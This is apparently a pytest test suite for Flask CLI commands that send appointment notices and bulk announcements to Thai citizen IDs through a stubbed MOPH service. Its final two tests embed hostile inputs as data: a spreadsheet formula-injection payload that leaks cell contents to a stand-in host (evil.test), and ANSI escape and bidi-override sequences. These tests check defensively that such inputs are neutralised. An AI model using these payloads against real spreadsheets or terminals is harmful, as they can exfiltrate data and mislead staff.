"""``flask moph push`` (appointment CSV) and ``flask moph announce`` (one message to many CIDs).

The commands run through Flask's CLI runner against the real app and Redis; a real
RQ worker does the sending, MOPH is stubbed with ``responses``.
"""

from __future__ import annotations

import csv
import hashlib
import json
import threading
import time

import pytest
import redis as redis_lib
import requests
from rq.job import Job

from handlers.app import create_app
from tests.conftest import make_settings
from tests.moph_support import (  # noqa: F401  (moph is a fixture)
    CIDS,
    MOPH_SETTINGS,
    SEND_NOW,
    UPLOAD_CSV,
    UPLOAD_JSON,
    UPLOAD_MESSAGE,
    appointment_row,
    future_day,
    moph,
    work,
)
from workers.queues import BULK_QUEUE, QUEUE_NAMES, get_queue
from workers.services import Services

COLUMNS = ["appointment_id", "cid", "date", "time", "clinic", "doctor", "location", "note", "status"]
MESSAGE = {"type": "text", "text": "วันเสาร์นี้ ฉีดวัคซีนไข้หวัดใหญ่ฟรีที่โรงพยาบาล"}


@pytest.fixture
def settings(redis_server, line_stub):
    return make_settings(redis_server, line_stub, **MOPH_SETTINGS)


@pytest.fixture
def cli(app):
    return app.test_cli_runner()


def write_csv(path, rows, columns=COLUMNS):
    with open(path, "w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, fieldnames=columns, extrasaction="ignore")
        writer.writeheader()
        writer.writerows(rows)
    return path


def read_result(path) -> list[dict]:
    with open(path, newline="", encoding="utf-8-sig") as file:
        return list(csv.DictReader(file))


def invoke_while_working(cli, args, redis, deadline=30):
    """Run a waiting command in a thread while a real worker (this thread) sends, until it ends."""
    outcome = {}
    thread = threading.Thread(target=lambda: outcome.update(result=cli.invoke(args=args)), daemon=True)
    thread.start()
    end = time.monotonic() + deadline
    while thread.is_alive() and time.monotonic() < end:
        work(redis)
        thread.join(0.05)
    thread.join(5)
    assert not thread.is_alive(), "the command did not finish"
    return outcome["result"]


def all_output(result) -> str:
    return result.stdout + result.stderr


# --- push -----------------------------------------------------------------------

@pytest.mark.usefixtures("jobs_here")
def test_push_reports_bad_rows_queues_good_ones_and_writes_a_result(cli, tmp_path, moph, redis):
    rows = [appointment_row("A-1", CIDS[1]),
            appointment_row("A-2", "1234567890123", date="25/12/2026"),
            appointment_row("A-3", CIDS[3], time="9.30", clinic=""),
            appointment_row("A-4", CIDS[4])]
    source = write_csv(tmp_path / "today.csv", rows)
    result = cli.invoke(args=["moph", "push", str(source), "--no-wait"])
    output = all_output(result)
    assert result.exit_code == 1  # some rows were invalid
    assert "row 3 (appointment A-2, cid …0123): cid: check digit does not match" in output
    assert "date: must be a date written YYYY-MM-DD" in output
    assert "row 4 (appointment A-3, cid …" in output and "clinic: is required" in output
    assert "1234567890123" not in output and CIDS[3] not in output
    assert "2 valid row(s), 2 invalid" in output
    assert len(get_queue(redis, BULK_QUEUE)) == 2 and moph.all_moph_calls() == []

    result_rows = read_result(tmp_path / "today.result.csv")
    assert [(r["row"], r["appointment_id"], r["status"]) for r in result_rows] == [
        ("2", "A-1", "queued"), ("3", "A-2", "invalid"), ("4", "A-3", "invalid"), ("5", "A-4", "queued")]
    assert result_rows[0]["cid"] == "…" + CIDS[1][-4:] and result_rows[0]["notice"] == "booked"
    assert "time: must be a time" in result_rows[2]["error"]
    assert not any(cid in (tmp_path / "today.result.csv").read_text() for cid in CIDS)

    work(redis)
    assert sorted(b["datas"][0] for b in moph.bodies(SEND_NOW)) == sorted([CIDS[1], CIDS[4]])


@pytest.mark.usefixtures("jobs_here")
def test_push_waits_with_a_progress_bar_and_summarises(cli, tmp_path, moph, redis):
    rows = [appointment_row(f"A-{n}", CIDS[n]) for n in range(5)]
    rows.append(appointment_row("A-5", CIDS[5], status="cancelled"))
    source = write_csv(tmp_path / "batch.csv", rows)
    out = tmp_path / "out" / "report.csv"
    out.parent.mkdir()
    result = invoke_while_working(cli, ["moph", "push", str(source), "--result", str(out), "--timeout", "20"],
                                  redis)
    assert result.exit_code == 0, all_output(result)
    assert "sending" in all_output(result)
    assert "sent 6, failed 0, uncertain 0, skipped 0, invalid 0, pending 0" in result.output
    assert [r["status"] for r in read_result(out)] == ["sent"] * 6
    assert [r["notice"] for r in read_result(out)] == ["booked"] * 5 + ["cancelled"]
    assert len(moph.calls(SEND_NOW)) == 6 and len(moph.token_calls) == 1


@pytest.mark.usefixtures("jobs_here")
def test_push_reports_failed_notices_in_the_summary_and_result(cli, tmp_path, moph, redis):
    moph.replace("POST", SEND_NOW, json={"message": "account suspended", "message_code": 403})
    source = write_csv(tmp_path / "batch.csv", [appointment_row("A-1", CIDS[1])])
    result = invoke_while_working(cli, ["moph", "push", str(source), "--timeout", "20"], redis)
    assert result.exit_code == 1
    assert "sent 0, failed 1" in result.output
    (row,) = read_result(tmp_path / "batch.result.csv")
    assert row["status"] == "failed" and "account suspended" in row["error"]


@pytest.mark.usefixtures("jobs_here")
def test_push_reports_a_notice_moph_may_have_pushed_as_uncertain(cli, tmp_path, moph, redis):
    moph.replace("POST", SEND_NOW, body=requests.ReadTimeout("read timed out"))
    source = write_csv(tmp_path / "batch.csv", [appointment_row("A-1", CIDS[1])])
    result = invoke_while_working(cli, ["moph", "push", str(source), "--timeout", "20"], redis)
    assert result.exit_code == 1
    assert "sent 0, failed 0, uncertain 1" in result.output
    assert "check หมอพร้อม" in all_output(result)
    (row,) = read_result(tmp_path / "batch.result.csv")
    assert row["status"] == "uncertain" and "หมอพร้อม" in row["error"]
    assert len(moph.calls(SEND_NOW)) == 1


@pytest.mark.usefixtures("jobs_here")
def test_pushing_the_same_file_twice_sends_nothing_new(cli, tmp_path, moph, redis):
    source = write_csv(tmp_path / "batch.csv", [appointment_row(f"A-{n}", CIDS[n]) for n in range(3)])
    cli.invoke(args=["moph", "push", str(source), "--no-wait"])
    work(redis)
    result = cli.invoke(args=["moph", "push", str(source), "--no-wait"])
    assert result.exit_code == 0
    assert "queued 0 notice(s); 3 were accepted before" in result.output
    assert [r["status"] for r in read_result(tmp_path / "batch.result.csv")] == ["skipped-duplicate"] * 3
    work(redis)
    assert len(moph.calls(SEND_NOW)) == 3


@pytest.mark.usefixtures("jobs_here")
def test_push_books_then_changes_within_one_file(cli, tmp_path, moph, redis):
    rows = [appointment_row("A-1", CIDS[1], time="09:00"),
            appointment_row("A-1", CIDS[1], time="10:00", status="changed")]
    source = write_csv(tmp_path / "batch.csv", rows)
    result = invoke_while_working(cli, ["moph", "push", str(source), "--timeout", "20"], redis)
    assert [(r["notice"], r["status"]) for r in read_result(tmp_path / "batch.result.csv")] == [
        ("booked", "skipped-superseded"), ("changed", "sent")]
    assert result.exit_code == 0
    (body,) = moph.bodies(SEND_NOW)
    assert body["messages"][0]["altText"].startswith("เปลี่ยนแปลงนัดหมาย")


def test_dry_run_validates_only(cli, tmp_path, moph, redis):
    source = write_csv(tmp_path / "batch.csv", [appointment_row("A-1", CIDS[1])])
    result = cli.invoke(args=["moph", "push", str(source), "--dry-run"])
    assert result.exit_code == 0
    assert "dry run: 1 valid, 0 invalid" in result.output
    assert [r["status"] for r in read_result(tmp_path / "batch.result.csv")] == ["valid"]
    assert sum(len(get_queue(redis, q)) for q in QUEUE_NAMES) == 0 and redis.keys("appt:*") == []


def test_push_refuses_a_csv_without_the_required_columns(cli, tmp_path, redis):
    source = write_csv(tmp_path / "batch.csv", [{"cid": CIDS[1]}], columns=["cid", "when"])
    result = cli.invoke(args=["moph", "push", str(source)])
    assert result.exit_code != 0
    assert "missing column(s) appointment_id, date, time, clinic" in all_output(result)


def test_push_accepts_an_excel_csv_with_bom_and_capitalised_headers(cli, tmp_path, redis):
    source = tmp_path / "excel.csv"
    source.write_bytes(("\ufeffAppointment_ID,CID,Date,Time,Clinic\r\n"
                        f"A-1,{CIDS[1]},{future_day()},08:00:00,ทันตกรรม\r\n").encode("utf-8"))
    result = cli.invoke(args=["moph", "push", str(source), "--no-wait"])
    assert result.exit_code == 0, all_output(result)
    assert "1 valid row(s), 0 invalid" in result.output


def test_push_refuses_without_moph_settings(redis_server, line_stub, tmp_path, redis):
    settings = make_settings(redis_server, line_stub, **dict(MOPH_SETTINGS, moph_user=None))
    app = create_app(settings, services=Services(settings, redis_connection=redis))
    source = write_csv(tmp_path / "batch.csv", [appointment_row("A-1", CIDS[1])])
    result = app.test_cli_runner().invoke(args=["moph", "push", str(source)])
    assert result.exit_code != 0 and "MOPH_USER" in all_output(result)
    assert len(get_queue(redis, BULK_QUEUE)) == 0


# --- announce ----------------------------------------------------------------

@pytest.mark.usefixtures("jobs_here")
def test_announce_uploads_each_chunk_as_json_then_sends_the_message(cli, tmp_path, moph, redis):
    cids = tmp_path / "cids.txt"
    c = CIDS[5]
    dashed = f"{c[0]}-{c[1:5]}-{c[5:10]}-{c[10:12]}-{c[12]}"
    cids.write_text("\n".join([CIDS[1], "1234567890123", CIDS[2], "", CIDS[1], CIDS[3], CIDS[4],
                               dashed]) + "\n")
    message = tmp_path / "message.json"
    message.write_text(json.dumps(MESSAGE, ensure_ascii=False))
    result = cli.invoke(args=["moph", "announce", "--cids", str(cids), "--message", str(message),
                              "--chunk-size", "2", "--no-wait"])
    output = all_output(result)
    assert result.exit_code == 0, output
    assert "line 2 (…0123): not a valid citizen ID" in output and "1234567890123" not in output
    assert "5 CID(s) to send to; 1 invalid and 1 repeated skipped" in output
    assert "queued 3 of 3 chunk(s)" in output
    work(redis)

    uploads = moph.bodies(UPLOAD_JSON)
    assert [u["datas"] for u in uploads] == [[CIDS[1], CIDS[2]], [CIDS[3], CIDS[4]], [CIDS[5]]]
    sends = moph.bodies(UPLOAD_MESSAGE)
    assert sends == [{"file_id": "file-json-1", "message": [MESSAGE]}] * 3
    assert moph.calls(SEND_NOW) == [] and moph.calls(UPLOAD_CSV) == []
    assert len(moph.token_calls) == 1

    again = cli.invoke(args=["moph", "announce", "--cids", str(cids), "--message", str(message),
                             "--chunk-size", "2", "--no-wait"])
    assert "queued 0 of 3 chunk(s)" in all_output(again)
    work(redis)
    assert len(moph.bodies(UPLOAD_MESSAGE)) == 3


@pytest.mark.usefixtures("jobs_here")
def test_announce_keeps_cids_out_of_job_arguments_and_redis_names(cli, tmp_path, moph, redis):
    cids = tmp_path / "cids.txt"
    cids.write_text("\n".join(CIDS[1:4]) + "\n")
    message = tmp_path / "message.json"
    message.write_text(json.dumps(MESSAGE))
    cli.invoke(args=["moph", "announce", "--cids", str(cids), "--message", str(message), "--no-wait"])
    queue = get_queue(redis, BULK_QUEUE)
    (job,) = [Job.fetch(i, connection=redis, serializer=queue.serializer) for i in queue.job_ids]
    assert not any(cid in json.dumps(job.args) for cid in CIDS)  # RQ logs a failed job's arguments
    names = b" ".join(redis.keys("*")).decode()
    unkeyed = ("json\x1e" + ",".join(CIDS[1:4]) + "\x1e" + json.dumps([MESSAGE], sort_keys=True, ensure_ascii=False))
    plain = hashlib.sha256(unkeyed.encode()).hexdigest()[:32]  # how a chunk was named before: reversible
    assert not any(cid in names for cid in CIDS) and plain not in names
    work(redis)
    assert moph.bodies(UPLOAD_JSON) == [{"datas": CIDS[1:4]}]
    assert redis.keys("announce:cids:*") == []  # the CIDs are gone once the chunk went out


@pytest.mark.usefixtures("jobs_here")
def test_announce_without_an_answer_is_uncertain_and_never_repeated(cli, tmp_path, moph, redis):
    moph.replace("POST", UPLOAD_MESSAGE, body=requests.ReadTimeout("read timed out"))
    cids = tmp_path / "cids.txt"
    cids.write_text(CIDS[1] + "\n")
    message = tmp_path / "message.json"
    message.write_text(json.dumps(MESSAGE))
    result = invoke_while_working(cli, ["moph", "announce", "--cids", str(cids), "--message", str(message),
                                        "--timeout", "20"], redis)
    assert result.exit_code == 1
    assert "chunks sent 0, failed 0, uncertain 1" in result.output and "หมอพร้อม" in all_output(result)
    queue = get_queue(redis, BULK_QUEUE)
    assert queue.scheduled_job_registry.get_job_ids() == [] and queue.failed_job_registry.count == 0
    # Run again (as after a worker died mid-call): still no second upload-message.
    moph.replace("POST", UPLOAD_MESSAGE, json={"message": "", "message_code": 200})
    (job_id,) = queue.finished_job_registry.get_job_ids()
    queue.enqueue_job(Job.fetch(job_id, connection=redis, serializer=queue.serializer))
    work(redis)
    assert len(moph.calls(UPLOAD_MESSAGE)) == 1


def test_a_refused_announcement_leaves_no_claim_behind(cli, tmp_path, moph, redis, redis_server, settings):
    # Redis refuses to queue the job (an ACL here; out of memory in production): nothing may stay
    # behind, or announcing again would skip the chunks as "announced before".
    cids = tmp_path / "cids.txt"
    cids.write_text(CIDS[1] + "\n")
    message = tmp_path / "message.json"
    message.write_text(json.dumps(MESSAGE))
    redis.acl_setuser("no-enqueue", enabled=True, passwords=["+no-enqueue-pw"], keys=["*"],
                      commands=["+@all", "-rpush", "-lpush"])
    limited = redis_lib.Redis.from_url(redis_server.url, username="no-enqueue", password="no-enqueue-pw")
    try:
        refused = create_app(settings, services=Services(settings, redis_connection=limited)).test_cli_runner()
        result = refused.invoke(args=["moph", "announce", "--cids", str(cids), "--message", str(message),
                                      "--no-wait"])
        assert isinstance(result.exception, redis_lib.exceptions.ResponseError)
    finally:
        limited.close()
        redis.acl_deluser("no-enqueue")
    assert redis.keys("announce:*") == []
    again = cli.invoke(args=["moph", "announce", "--cids", str(cids), "--message", str(message), "--no-wait"])
    assert "queued 1 of 1 chunk(s)" in again.output


@pytest.mark.usefixtures("jobs_here")
def test_announce_from_a_csv_uploads_csv_files_and_waits(cli, tmp_path, moph, redis):
    cids = tmp_path / "cids.csv"
    cids.write_text("name,CID\nสมชาย," + CIDS[1] + "\nสมหญิง," + CIDS[2] + "\n")
    message = tmp_path / "message.json"
    message.write_text(json.dumps([MESSAGE, {"type": "sticker", "packageId": "446", "stickerId": "1988"}]))
    result = invoke_while_working(cli, ["moph", "announce", "--cids", str(cids), "--message", str(message),
                                        "--timeout", "20"], redis)
    assert result.exit_code == 0, all_output(result)
    assert "chunks sent 1, failed 0" in result.output
    (upload,) = moph.calls(UPLOAD_CSV)
    assert upload.request.headers["Content-Type"].startswith("multipart/form-data")
    body = upload.request.body
    assert b'name="data_file"' in body and f"cid\r\n{CIDS[1]}\r\n{CIDS[2]}\r\n".encode() in body
    assert moph.bodies(UPLOAD_MESSAGE)[0]["file_id"] == "file-csv-1"


@pytest.mark.usefixtures("jobs_here")
def test_announce_retry_after_a_failed_send_does_not_upload_again(cli, tmp_path, moph, redis):
    moph.replace("POST", UPLOAD_MESSAGE, status=500, json={"message": "busy", "message_code": 500})
    cids = tmp_path / "cids.txt"
    cids.write_text(CIDS[1] + "\n")
    message = tmp_path / "message.json"
    message.write_text(json.dumps(MESSAGE))
    cli.invoke(args=["moph", "announce", "--cids", str(cids), "--message", str(message), "--no-wait"])
    work(redis)
    moph.replace("POST", UPLOAD_MESSAGE, json={"message": "", "message_code": 200})
    # Run the scheduled retry now instead of in 5 s.
    queue = get_queue(redis, BULK_QUEUE)
    for job_id in queue.scheduled_job_registry.get_job_ids():
        queue.scheduled_job_registry.remove(job_id)
        queue.enqueue_job(queue.fetch_job(job_id))
    work(redis)
    assert len(moph.calls(UPLOAD_JSON)) == 1
    assert len(moph.calls(UPLOAD_MESSAGE)) == 2


@pytest.mark.parametrize("content, problem", [
    ("not json", "not JSON"),
    ("[]", "list of 1 to 5"),
    (json.dumps([MESSAGE] * 6), "list of 1 to 5"),
    (json.dumps({"type": "text"}), "message 1 is not a valid LINE message"),
    (json.dumps([MESSAGE, {"type": "bogus"}]), "message 2 is not a valid LINE message"),
])
def test_announce_refuses_a_bad_message_file(cli, tmp_path, redis, content, problem):
    cids = tmp_path / "cids.txt"
    cids.write_text(CIDS[1] + "\n")
    message = tmp_path / "message.json"
    message.write_text(content)
    result = cli.invoke(args=["moph", "announce", "--cids", str(cids), "--message", str(message)])
    assert result.exit_code != 0 and problem in all_output(result)
    assert len(get_queue(redis, BULK_QUEUE)) == 0


def test_announce_refuses_a_file_without_valid_cids(cli, tmp_path, redis):
    cids = tmp_path / "cids.txt"
    cids.write_text("1234567890123\n")
    message = tmp_path / "message.json"
    message.write_text(json.dumps(MESSAGE))
    result = cli.invoke(args=["moph", "announce", "--cids", str(cids), "--message", str(message)])
    assert result.exit_code != 0 and "no valid citizen ID" in all_output(result)


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])  # (a leading tab or CR is stripped on reading)
def test_result_csv_cells_open_as_text_not_formulas(cli, tmp_path, moph, redis, start):
    formula = f'{start}HYPERLINK("https://evil.test/?x="&A1,"ดูผล")'
    rows = [appointment_row(formula, CIDS[1]), appointment_row("A-2", CIDS[2], clinic=formula)]
    source = write_csv(tmp_path / "batch.csv", rows)
    cli.invoke(args=["moph", "push", str(source), "--dry-run"])
    result_rows = read_result(tmp_path / "batch.result.csv")
    cells = [value for row in result_rows for value in row.values()]
    assert result_rows[0]["appointment_id"] == "'" + formula
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_what_the_his_wrote_reaches_the_terminal_without_control_sequences(cli, tmp_path, redis):
    """An ANSI escape in a CSV cell would clear the staff member's screen, retitle the window or hide
    the lines after it; a bidi override would reorder them. The command prints the text without them."""
    hostile = "A-1\x1b[2J\x1b]0;pwned\x07\u202eevil\r\x9b31m"
    source = write_csv(tmp_path / "batch.csv", [appointment_row(hostile, CIDS[1], date="31/02/2026")])
    result = cli.invoke(args=["moph", "push", str(source), "--dry-run"])
    output = all_output(result)
    assert "row 2 (appointment A-1evil" in output  # what the row said, readable
    assert not any(ch in output for ch in "\x1b\x07\r\u202e\x9b"), repr(output)
